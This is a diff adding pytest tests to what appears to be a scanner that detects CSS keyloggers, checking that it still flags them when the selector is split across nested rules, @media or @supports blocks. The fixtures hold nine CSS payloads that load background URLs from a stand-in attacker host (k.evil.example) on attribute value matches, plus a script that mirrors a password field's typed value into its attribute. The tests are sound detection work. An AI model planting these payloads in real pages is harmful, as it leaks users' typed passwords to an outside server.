@@ -185,6 +185,28 @@ def test_css_keylogger_mirror_and_unicode_range_are_high():
     assert rules_of(fonts) == [("exfil.css-keylogger", "high", ["input:#q"], ["f.evil.example"])]
 
 
+@pytest.mark.parametrize("css", [
+    "input{&[value$=a]{background:url(https://k.evil.example/a)}}",      # CSS nesting: the selector is split over two rules
+    "input{[value$=a]&{background:url(https://k.evil.example/a)}}",
+    "form input{[value$=a] &{background:url(https://k.evil.example/a)}}",
+    ".f,input{&[value$=a]{background:url(https://k.evil.example/a)}}",   # the parent a list
+    "[value$=a]{input&{background:url(https://k.evil.example/a)}}",      # the attribute in the parent
+    "input[value$=a]{@media screen{background:url(https://k.evil.example/a)}}",  # a conditional rule in the style rule
+    "@media screen{input{&[value$=a]{background:url(https://k.evil.example/a)}}}",
+    "input{@supports (color:red){&[value$=a]{background:url(https://k.evil.example/a)}}}",
+    "form{input{&[value$=a]{background:url(https://k.evil.example/a)}}}",  # two levels
+])
+def test_a_css_keylogger_split_over_nested_rules_is_the_same_keylogger(css):
+    mirror = (f"<style>{css}</style><input id=pw>\n<script>const pw = document.getElementById('pw'); "
+              "pw.addEventListener('input', () => pw.setAttribute('value', pw.value));</script>")
+    assert ("exfil.css-keylogger", "high", ["input:#pw"], ["k.evil.example"]) in rules_of(mirror), rules_of(mirror)
+    assert [r[0] for r in rules_of(f"<style>{css}</style><input id=pw>")] == ["exfil.css-attribute-selector"]
+
+
+def test_a_nested_rule_without_an_attribute_value_selector_loads_for_no_value():
+    assert rules_of("<style>input{&:hover{background:url(https://cdn.example.com/h.png)}}</style><input>") == []
+
+
 # ------------------------------------------------------------------ the language, not a list of spellings
 
 EVASIONS = {
